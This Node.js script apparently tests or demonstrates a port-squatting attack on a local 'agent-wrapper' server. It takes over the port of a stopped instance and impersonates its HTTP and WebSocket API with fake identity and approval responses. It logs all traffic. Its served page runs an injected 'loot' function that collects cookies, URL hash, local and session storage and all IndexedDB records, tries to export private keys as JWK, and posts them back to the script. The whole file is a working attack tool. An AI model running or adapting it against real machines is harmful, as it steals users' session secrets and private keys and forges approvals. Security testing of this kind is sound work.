// What another user of the machine may run on the port of a server that has stopped. It
// answers whatever it is asked, takes down all that it is sent, and serves a page of its own
// that takes what it finds in the browser. It is started from its text: its user cannot
// read this file.

import { createServer } from "node:http";
import { createHash } from "node:crypto";

const tell = (what) => process.stdout.write(JSON.stringify(what) + "\n");

/** loot runs in the browser, on the origin of the server. */
async function loot() {
  const open = (name) => new Promise((done) => {
    const r = indexedDB.open(name);
    r.onsuccess = () => done(r.result);
    r.onerror = () => done(null);
  });
  const found = { hash: location.hash, cookie: document.cookie, stored: { ...localStorage, ...sessionStorage }, keys: [] };
  for (const { name } of await indexedDB.databases()) {
    const db = await open(name);
    for (const table of db ? db.objectStoreNames : []) {
      const all = await new Promise((done) => (db.transaction(table).objectStore(table).getAll().onsuccess = (e) => done(e.target.result)));
      globalThis.taken = [...(globalThis.taken ?? []), ...all];
      for (const key of all) found.keys.push({ id: key.id, read: await crypto.subtle.exportKey("jwk", key.private).catch((err) => err.name) });
    }
  }
  await fetch("/loot", { method: "POST", body: JSON.stringify(found) });
  document.title = "taken";
}

const page = `<!doctype html><title>agent-wrapper</title><p>Welcome back<script>(${loot})()</script>`;

/** instance is that of the server that has stopped: anybody may have heard of it. */
const [port, instance] = process.argv.slice(1);

const server = createServer((req, res) => {
  let body = "";
  req.setEncoding("utf8").on("data", (text) => (body += text));
  req.on("end", () => {
    tell({ method: req.method, url: req.url, headers: req.rawHeaders, body });
    const json = { "content-type": "application/json", "agent-wrapper-api": "2", "agent-wrapper-proof": "AAAA" };
    if (req.url === "/") return res.writeHead(200, { "content-type": "text/html" }).end(page);
    if (req.url === "/api/hello") return res.writeHead(200, json).end(JSON.stringify({ instance, time: Date.now(), proof: "A".repeat(43) }));
    if (req.url.startsWith("/api/approvals")) return res.writeHead(200, json).end('{"approvals":[],"seq":0}');
    res.writeHead(200, json).end('{"id":"b1","name":"anna","role":"person","csrf":"x"}');
  });
});

server.on("upgrade", (req, socket) => {
  tell({ method: req.method, url: req.url, headers: req.rawHeaders, body: "" });
  const accept = createHash("sha1").update(req.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest("base64");
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Protocol: agent-wrapper\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
  const hello = '{"type":"snapshot","cursor":0}';
  socket.write(Buffer.concat([Buffer.from([0x81, hello.length]), Buffer.from(hello)]));
  socket.on("data", (bytes) => tell({ frame: bytes.toString("base64") }));
  socket.on("error", () => {});
});

server.listen(Number(port), "127.0.0.1", () => tell({ listening: process.getuid() }));
